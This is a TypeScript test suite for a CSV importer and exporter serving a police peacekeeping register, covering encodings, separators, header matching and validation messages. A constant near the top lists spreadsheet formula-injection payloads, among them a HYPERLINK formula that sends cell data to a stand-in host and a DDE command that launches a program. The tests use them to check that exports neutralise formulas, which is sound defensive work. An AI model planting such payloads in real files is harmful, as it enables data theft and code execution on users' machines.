import { Writable } from "node:stream";
import { parse } from "csv-parse/sync";
import type { DataSource } from "typeorm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { formatReport } from "../../src/core/ingest/report";
import { entityRows } from "../../src/export/entities/entity-rows";
import { entityColumns, findEntity } from "../../src/export/entities/entity-specs";
import type { CsvOptions } from "../../src/export/csv";
import { writeCsv } from "../../src/export/write";
import { databaseTargets, type TestDatabase } from "../support/databases";
import { counts, csvFolder, importCsv, importRejected, loadReference, problems } from "./helpers";

/**
 * Files as spreadsheet programs save them (plain CSV on Windows in Windows-1252, CSV UTF-8 with a
 * byte order mark, semicolons where the comma is the decimal mark, "Unicode text" in UTF-16 with
 * tabs, CRLF line ends, retyped headers), and text that a spreadsheet would run as a formula.
 */
const files = csvFolder();
afterAll(() => files.cleanup());

const cp1252 = (text: string) => Buffer.from([...text].map((ch) => {
  const code = ch.charCodeAt(0);
  if (code > 0xff) throw new Error(`not in the test's Latin-1 range: ${ch}`);
  return code;
}));

/** An entity export as the HTTP route and the CLI write it. */
async function exported(db: DataSource, name: string, options: CsvOptions = {}): Promise<string> {
  const spec = findEntity(name)!;
  let text = "";
  const out = new Writable({ write: (chunk, _enc, done) => ((text += chunk.toString("utf8")), done()) });
  await writeCsv(entityColumns(spec, false), entityRows(db, spec, false), out, options);
  return text;
}

const FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"Click")', "+SUM(1,2)", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "'=already quoted"];

describe.each(databaseTargets())("spreadsheet files on $name", (target) => {
  let t: TestDatabase;
  beforeAll(async () => {
    t = await target.open();
    await loadReference(t.db);
  });
  afterAll(() => t?.close());

  const services = (codes: string[]) => t.db.query(`SELECT code, name, jurisdiction, province FROM police_service WHERE code = ANY($1) ORDER BY code`, [codes]);

  it("reads Windows-1252 when asked, with semicolons and CRLF found from the header, and says so", async () => {
    const file = files.write(cp1252("code;name;jurisdiction;province\r\nSQW;Sûreté du Québec;PROVINCIAL;QC\r\n"), "sq-1252.csv");
    const s = await importCsv(t.db, "police-services", file, { encoding: "windows-1252" });
    expect(counts(s)).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect({ encoding: s.encoding, delimiter: s.delimiter, found: s.delimiterFound }).toEqual({ encoding: "Windows-1252", delimiter: ";", found: true });
    expect(formatReport(s)).toBe("sq-1252.csv (Windows-1252, semicolon-separated (found in the header)): 1 police-services row(s), 1 inserted, 0 updated, 0 unchanged.\n");
    expect(await services(["SQW"])).toEqual([{ code: "SQW", name: "Sûreté du Québec", jurisdiction: "PROVINCIAL", province: "QC" }]);
  });

  it("refuses bytes that are not UTF-8 with the line, the byte and both remedies, and writes nothing", async () => {
    const file = files.write(cp1252("code,name,jurisdiction,province\nSQX,Police,PROVINCIAL,QC\nSQY,Sûreté du Québec,PROVINCIAL,QC\n"));
    const s = await importRejected(t.db, "police-services", file);
    expect(problems(s)).toEqual([
      '3 -: the file is not UTF-8: line 3 has the byte 0xFB ("û" in Windows-1252) in "SQY,Sûreté du Québec,PROVINCIAL,QC"; ' +
        'save it as "CSV UTF-8" from the spreadsheet program, or, if it was saved as plain CSV on Windows, import it with --encoding windows-1252',
    ]);
    expect(s.errorCount).toBe(1); // not also "the file is empty"
  });

  it("refuses to read a UTF-8 file as Windows-1252, which would change its letters", async () => {
    const file = files.write("code,name,jurisdiction,province\nSQZ,Plain,PROVINCIAL,QC\nSQV,Sûreté du Québec,PROVINCIAL,QC\n");
    const s = await importRejected(t.db, "police-services", file, { encoding: "windows-1252" });
    expect(problems(s)).toEqual([
      "3 -: the file is UTF-8, not Windows-1252 (line 3 holds accented letters written in UTF-8): import it without --encoding, or its letters would change",
    ]);
  });

  it("reads UTF-16 'Unicode text' (byte order mark, tabs, CRLF) and a UTF-8 byte order mark", async () => {
    const utf16 = files.write(Buffer.from("\ufeffcode\tname\tjurisdiction\tprovince\r\nSQU\tSûreté du Québec (UTF-16)\tPROVINCIAL\tQC\r\n", "utf16le"));
    const s = await importCsv(t.db, "police-services", utf16);
    expect(counts(s)).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect({ encoding: s.encoding, delimiter: s.delimiter }).toEqual({ encoding: "UTF-16LE", delimiter: "\t" });
    const bom = files.write("\ufeffcode,name,jurisdiction,province\r\nSQB,Sûreté du Québec (BOM),PROVINCIAL,QC\r\n");
    expect((await importCsv(t.db, "police-services", bom)).encoding).toBe("UTF-8 with byte order mark");
    expect(await services(["SQB", "SQU"])).toEqual([
      { code: "SQB", name: "Sûreté du Québec (BOM)", jurisdiction: "PROVINCIAL", province: "QC" },
      { code: "SQU", name: "Sûreté du Québec (UTF-16)", jurisdiction: "PROVINCIAL", province: "QC" },
    ]);
  });

  it("reads a semicolon file with --delimiter ';', and hints at it when told the wrong separator", async () => {
    const text = "code;name;jurisdiction;province\nSQS;Semicolons;PROVINCIAL;QC\n";
    expect(counts(await importCsv(t.db, "police-services", files.write(text), { delimiter: ";" }))).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    const wrong = await importRejected(t.db, "police-services", files.write(text.replace("SQS", "SQT")), { delimiter: "," });
    expect(wrong.warnings.map((w) => w.message)).toEqual(['unknown column, ignored; the header holds semicolons: is the file ;-separated? (--delimiter ";")']);
    expect(problems(wrong)[0]).toBe("1 code: required column is missing; police-services files have the columns code, name, jurisdiction, province (optional)");
  });

  it("matches header names whatever their case and spacing, and ISO3 and enum codes whatever their case", async () => {
    const text = " Code ,NAME,Jurisdiction,province\nSQH,Headers,provincial,QC\n";
    expect(counts(await importCsv(t.db, "police-services", files.write(text)))).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect(await services(["SQH"])).toEqual([{ code: "SQH", name: "Headers", jurisdiction: "PROVINCIAL", province: "QC" }]);
    const trainings = "Title,Topic Code,COUNTRY_ISO3,Start-Date,participants,Female Participants\nCase test,COMMUNITY_POLICING,hti,2019-05-01,10,4\n";
    expect(counts(await importCsv(t.db, "trainings", files.write(trainings)))).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect(await t.db.query(`SELECT country_iso3 FROM training_delivery WHERE title = 'Case test'`)).toEqual([{ country_iso3: "HTI" }]);
    const missions = "code,name,lead_organization_code,host_countries,start_date\nCASE-HOSTS,Case hosts,UN,hti; dom,2019-01-01\n";
    expect(counts(await importCsv(t.db, "missions", files.write(missions)))).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect(await t.db.query(`SELECT string_agg(country_iso3, ';' ORDER BY country_iso3) AS hosts FROM mission_host_country h JOIN mission m ON m.id = h.mission_id WHERE m.code = 'CASE-HOSTS'`))
      .toEqual([{ hosts: "DOM;HTI" }]);
    // Two spellings of one column are one column twice.
    const twice = await importRejected(t.db, "police-services", files.write("code,Code,name,jurisdiction\nSQ2,SQ2,x,FEDERAL\n"));
    expect(problems(twice)).toEqual(['1 Code: appears twice in the header (as "code" and "Code")']);
  });

  it("refuses a mission a UN file names that the register does not know, offering the closest, unless --create-missions", async () => {
    const text = "as_of_date,mission,country_iso3,personnel_type,male,female,total\n2010-01-31,MINUSTAH',CAN,Individual Police,70,14,84\n2010-01-31,Minustah,CAN,Individual Police,1,0,1\n";
    const s = await importRejected(t.db, "un-contributions", files.write(text));
    const remedy = "; a mission that is not in the register yet is added by importing it (missions) first, or with --create-missions";
    expect(problems(s)).toEqual([
      "2 mission: contains the character \"'\" U+0027 at position 9; a code is 1 to 64 ASCII letters and digits, starting with a capital letter or a digit, " +
        `with single spaces, hyphens or underscores between words (e.g. MINUSTAH, CPM-UKRAINE, EUPOL COPPS); did you mean "MINUSTAH"?${remedy}`,
      `3 mission: unknown mission "Minustah"; did you mean "MINUSTAH"?${remedy}`,
    ]);
    expect(await t.db.query(`SELECT count(*)::int AS n FROM mission WHERE upper(code) LIKE 'MINUSTAH%'`)).toEqual([{ n: 1 }]);
  });

  it("refuses a new mission code that differs from a known one only in case", async () => {
    const s = await importRejected(t.db, "missions", files.write("code,name,lead_organization_code,host_countries,start_date\nMinustah,Typo,UN,HTI,2004-06-01\n"));
    expect(problems(s)).toEqual(['2 code: "Minustah" differs from the mission "MINUSTAH" only in case: write MINUSTAH to change that mission (a code is a mission\'s key)']);
  });

  it("names what is wrong with a date that has the right form but is not on the calendar", async () => {
    const s = await importRejected(t.db, "trainings", files.write("title,topic_code,country_iso3,start_date,participants,female_participants\nLeap,HUMAN_RIGHTS,UKR,2022-02-30,10,4\nMonth,HUMAN_RIGHTS,UKR,30/01/2022,10,4\n"));
    expect(problems(s)).toEqual([
      '2 start_date: "2022-02-30" is not a calendar date (February 2022 has 28 days); accepted: a calendar date between 1900-01-01 and 2100-12-31, written YYYY-MM-DD',
      "3 start_date: \"30/01/2022\" is not written YYYY-MM-DD (a spreadsheet program's own date format: format the column as yyyy-mm-dd, or as text, before saving); " +
        "accepted: a calendar date between 1900-01-01 and 2100-12-31, written YYYY-MM-DD",
    ]);
  });

  it("exports formula-like text with a leading ' that the import takes away again: export, import is a no-op", async () => {
    // As entered through the API: stored exactly as typed.
    const topic = (await t.db.query(`SELECT id FROM training_topic WHERE code = 'HUMAN_RIGHTS'`))[0].id;
    for (const [i, title] of FORMULAS.entries()) {
      await t.db.query(`INSERT INTO training_delivery (country_iso3, topic_id, title, start_date, participants, female_participants, source)
        VALUES ('UKR', $1, $2, $3, 10, $4, 'entered through the API')`, [topic, title, `2021-0${i + 1}-01`, i]);
    }
    const stored = () => t.db.query(`SELECT title, source FROM training_delivery WHERE start_date >= '2021-01-01' AND start_date < '2021-07-01' ORDER BY start_date`);
    const before = await stored();
    expect(before.map((r: { title: string }) => r.title)).toEqual(FORMULAS);

    const csv = await exported(t.db, "trainings");
    const cells = (parse(csv, { columns: false }) as string[][]).flat();
    // No cell a spreadsheet opens starts a formula; the numbers stay numbers.
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    const titles = (parse(csv, { columns: true }) as Record<string, string>[]).filter((r) => r.start_date.startsWith("2021-0")).map((r) => r.title);
    expect(titles).toEqual(FORMULAS.map((f) => `'${f}`));

    const again = await importCsv(t.db, "trainings", files.write(csv, "trainings-export.csv"));
    expect(again.errorCount).toBe(0);
    expect(again.inserted + again.updated).toBe(0);
    expect(await stored()).toEqual(before);
    // A file typed in a spreadsheet: its ' is the spreadsheet's "this is text" mark, taken away.
    const typed = files.write("title,topic_code,country_iso3,start_date,participants,female_participants\n'=1+1,HUMAN_RIGHTS,UKR,2021-08-01,10,4\n");
    expect(counts(await importCsv(t.db, "trainings", typed))).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect(await t.db.query(`SELECT title FROM training_delivery WHERE start_date = '2021-08-01'`)).toEqual([{ title: "=1+1" }]);
  });

  it("keeps each row's source through export, edit, import; an empty source keeps the stored one, a new row gets the file name", async () => {
    await t.db.query(`UPDATE mission SET source = 'RCMP, Peace operations (Haiti); UN monthly contribution reports' WHERE code IN ('MINUSTAH', 'UNMIK')`);
    const before = await t.db.query(`SELECT code, name, source FROM mission ORDER BY code`);
    const csv = await exported(t.db, "missions");
    const [header, ...lines] = csv.trimEnd().split("\n");
    expect(header).toBe("code,name,lead_organization_code,host_countries,kind,start_date,end_date,source");
    // Two rows edited, as in a spreadsheet; one has its source cell emptied; one new row without a source.
    const edited = lines.map((l) => l.startsWith("MINUSTAH,") ? l.replace("United Nations Stabilization Mission in Haiti", "MINUSTAH (edited)")
      : l.startsWith("UNMIK,") ? l.replace("United Nations Interim Administration Mission in Kosovo", "UNMIK (edited)").replace(/,"RCMP, Peace operations \(Haiti\); UN monthly contribution reports"$/, ",")
      : l);
    expect(edited.join("\n")).not.toBe(lines.join("\n"));
    const file = files.write([header, ...edited, "NEW-SOURCE,New mission,UN,HTI,OTHER,2024-01-01,,"].join("\n"), "missions-edited.csv");
    expect(counts(await importCsv(t.db, "missions", file))).toEqual({ rows: lines.length + 1, inserted: 1, updated: 2, unchanged: lines.length - 2 });
    const after = await t.db.query(`SELECT code, name, source FROM mission ORDER BY code`);
    const expected = [...before.map((m: { code: string; name: string; source: string }) =>
      m.code === "MINUSTAH" ? { ...m, name: "MINUSTAH (edited)" } : m.code === "UNMIK" ? { ...m, name: "UNMIK (edited)" } : m),
      { code: "NEW-SOURCE", name: "New mission", source: "missions-edited.csv" }].sort((a, b) => (a.code < b.code ? -1 : 1));
    expect(after).toEqual(expected);
    expect(after.find((m: { code: string }) => m.code === "UNMIK").source).toBe("RCMP, Peace operations (Haiti); UN monthly contribution reports");
  });

  it("reads back its own semicolon export with a byte order mark, every row unchanged", async () => {
    const csv = await exported(t.db, "trainings", { delimiter: ";", bom: true });
    expect(csv.startsWith("\ufefftitle;topic_code;")).toBe(true);
    const s = await importCsv(t.db, "trainings", files.write(csv, "trainings-semicolons.csv"));
    expect({ encoding: s.encoding, delimiter: s.delimiter, errors: s.errorCount, written: s.inserted + s.updated }).toEqual({
      encoding: "UTF-8 with byte order mark", delimiter: ";", errors: 0, written: 0,
    });
    expect(s.unchanged).toBe(Number((await t.db.query(`SELECT count(*)::int AS n FROM training_delivery`))[0].n));
  });

  it("reads a Mac 'CSV (Macintosh)' file (Mac OS Roman, CR line ends) and a first line sep=;", async () => {
    // Mac OS Roman: é is 0x8E, û is 0x9E.
    const mac = Buffer.concat([Buffer.from("code,name,jurisdiction,province\rSQM,S"), Buffer.from([0x9e]), Buffer.from("ret"), Buffer.from([0x8e]),
      Buffer.from(" (Mac),PROVINCIAL,QC\rSQN,Second,PROVINCIAL,QC\r")]);
    const s = await importCsv(t.db, "police-services", files.write(mac, "mac.csv"), { encoding: "macintosh" });
    expect({ ...counts(s), encoding: s.encoding }).toEqual({ rows: 2, inserted: 2, updated: 0, unchanged: 0, encoding: "Mac OS Roman" });
    // Line numbers count CR line ends too.
    const bad = await importRejected(t.db, "police-services", files.write("code,name,jurisdiction\rSQO,x,FEDERAL\rSQP,y,NONE\r"));
    expect(problems(bad)).toEqual(['3 jurisdiction: "NONE" is not one of FEDERAL, PROVINCIAL, MUNICIPAL, FIRST_NATIONS']);
    const sep = await importCsv(t.db, "police-services", files.write("sep=;\r\ncode;name;jurisdiction;province\r\nSQL;Sep line;PROVINCIAL;QC\r\nSQK;Sep, comma;PROVINCIAL;\r\n"));
    expect({ ...counts(sep), delimiter: sep.delimiter }).toEqual({ rows: 2, inserted: 2, updated: 0, unchanged: 0, delimiter: ";" });
    expect(await services(["SQK", "SQL", "SQM", "SQN"])).toEqual([
      { code: "SQK", name: "Sep, comma", jurisdiction: "PROVINCIAL", province: null },
      { code: "SQL", name: "Sep line", jurisdiction: "PROVINCIAL", province: "QC" },
      { code: "SQM", name: "Sûreté (Mac)", jurisdiction: "PROVINCIAL", province: "QC" },
      { code: "SQN", name: "Second", jurisdiction: "PROVINCIAL", province: "QC" },
    ]);
    // Problems after a sep= line are on the file's own lines (the header is line 2).
    const late = await importRejected(t.db, "police-services", files.write("sep=;\ncode;name;jurisdiction\nSQJ;x;NONE\n"));
    expect(problems(late)).toEqual(['3 jurisdiction: "NONE" is not one of FEDERAL, PROVINCIAL, MUNICIPAL, FIRST_NATIONS']);
    const header = await importRejected(t.db, "police-services", files.write("sep=;\ncode;name\nSQI;x\n"));
    expect(problems(header)).toEqual(["2 jurisdiction: required column is missing; police-services files have the columns code, name, jurisdiction, province (optional)"]);
  });

  it("reads French booleans and trailing empty cells as spreadsheets write them, and names a grouped number", async () => {
    const text = "mission_code,name,focus,led_by_canada,start_date,end_date,,\nMINUSTAH,Équipe VRAI,SGBV,VRAI,,,,\nMINUSTAH,Équipe FAUX,SGBV,faux,,,,\n";
    expect(counts(await importCsv(t.db, "teams", files.write(text)))).toEqual({ rows: 2, inserted: 2, updated: 0, unchanged: 0 });
    expect(await t.db.query(`SELECT name, led_by_canada FROM specialized_team WHERE name LIKE 'Équipe %' ORDER BY name`)).toEqual([
      { name: "Équipe FAUX", led_by_canada: false },
      { name: "Équipe VRAI", led_by_canada: true },
    ]);
    const wide = await importRejected(t.db, "teams", files.write("mission_code,name,focus\nMINUSTAH,Too wide,SGBV,x\n"));
    expect(problems(wide)).toEqual(["2 -: has 4 fields; the header has 3: a cell that holds the separator \",\" must be in double quotes"]);
    const grouped = await importRejected(t.db, "trainings", files.write('title,topic_code,country_iso3,start_date,participants,female_participants\nBig,HUMAN_RIGHTS,UKR,2020-05-01,"1,234",12\nBigger,HUMAN_RIGHTS,UKR,2020-05-02,1\u00a0234,12\n'));
    expect(problems(grouped)).toEqual([
      '2 participants: "1,234" is not a whole number written without digit grouping (1234)',
      '3 participants: "1\u00a0234" is not a whole number written without digit grouping (1234)',
    ]);
  });

  it("decodes Windows-1252's own characters (’ € œ –), where Node's decoder would give control characters", async () => {
    // 0x92 ’, 0x80 €, 0x9C œ, 0x96 –, 0xE9 é
    const bytes = Buffer.concat([Buffer.from("code,name,jurisdiction\nSQC,L"), Buffer.from([0x92, 0xe9, 0x71, 0x75, 0x69, 0x70, 0x65, 0x20, 0x96, 0x20, 0x9c, 0x75, 0x76, 0x72, 0x65, 0x20, 0x80]), Buffer.from(",MUNICIPAL\n")]);
    expect(counts(await importCsv(t.db, "police-services", files.write(bytes), { encoding: "windows-1252" }))).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0 });
    expect(await services(["SQC"])).toEqual([{ code: "SQC", name: "L’équipe – œuvre €", jurisdiction: "MUNICIPAL", province: null }]);
  });

  it("refuses UTF-8 text that a spreadsheet read as Windows-1252 (mojibake), naming what it was", async () => {
    const s = await importRejected(t.db, "police-services", files.write("code,name,jurisdiction,province\nSQR,SÃ»retÃ© du QuÃ©bec,PROVINCIAL,QC\n"));
    expect(problems(s)).toEqual([
      '2 name: "SÃ»retÃ© du QuÃ©bec" is UTF-8 text read as Windows-1252 (it was "Sûreté du Québec"): a spreadsheet program opened the file in the wrong character set; open it again as UTF-8 (Unicode) and save it',
    ]);
  });

  it("refuses a value under a column without a name (a cell split by an unquoted separator), and reads a quoted, padded sep= line", async () => {
    const split = await importRejected(t.db, "police-services", files.write("code,name,jurisdiction,province,\nSQA,Split,PROVINCIAL,QC,extra value\nSQB2,Whole,PROVINCIAL,QC,\n"));
    expect(problems(split)).toEqual(['2 -: column 5 has no name in the header but holds "extra value": a value split off a cell (a separator inside a cell that is not quoted?), or a column to name or delete']);
    const sep = await importCsv(t.db, "police-services", files.write('"sep=,",,,\ncode,name,jurisdiction,province\nSQQ,Quoted sep,PROVINCIAL,QC\n'));
    expect({ ...counts(sep), delimiter: sep.delimiter }).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0, delimiter: "," });
    // A sep=; line kept by a program that then wrote commas: the header decides.
    const stale = await importCsv(t.db, "police-services", files.write('sep=;\ncode,name,jurisdiction,province\nSQS2,Stale sep,PROVINCIAL,QC\n'));
    expect({ ...counts(stale), delimiter: stale.delimiter }).toEqual({ rows: 1, inserted: 1, updated: 0, unchanged: 0, delimiter: "," });
  });

  it("refuses a code that lost its leading zeros in a spreadsheet, where the register has it with them", async () => {
    expect(counts(await importCsv(t.db, "police-services", files.write("code,name,jurisdiction\n007,Zeros,MUNICIPAL\n")))).toMatchObject({ inserted: 1 });
    expect(counts(await importCsv(t.db, "officers", files.write("personnel_number,gender,police_service_code\n000123,FEMALE,007\n")))).toMatchObject({ inserted: 1 });
    const remedy = ": a spreadsheet program drops the leading zeros of a column it reads as numbers (format the column as text before saving)";
    const services = await importRejected(t.db, "police-services", files.write("code,name,jurisdiction\n7,Zeros,MUNICIPAL\n"));
    expect(problems(services)).toEqual([`2 code: "7" is not in the register; the register has "007"${remedy}`]);
    const officers = await importRejected(t.db, "officers", files.write("personnel_number,gender,police_service_code\n123,FEMALE,7\n"));
    expect(problems(officers)).toEqual([
      `2 personnel_number: "123" is not in the register; the register has "000123"${remedy}`,
      `2 police_service_code: unknown police service "7"; the register has "007"${remedy}`,
    ]);
    const deployments = await importRejected(t.db, "deployments", files.write("personnel_number,mission_code,role_code,start_date\n123,MINUSTAH,TRAINING,2010-01-01\n"));
    expect(problems(deployments)).toEqual([`2 personnel_number: unknown personnel number "123"; the register has "000123"${remedy}`]);
    // A new all-digit code with no such twin is a new record.
    expect(counts(await importCsv(t.db, "police-services", files.write("code,name,jurisdiction\n8,Eight,MUNICIPAL\n")))).toMatchObject({ inserted: 1 });
  });
});
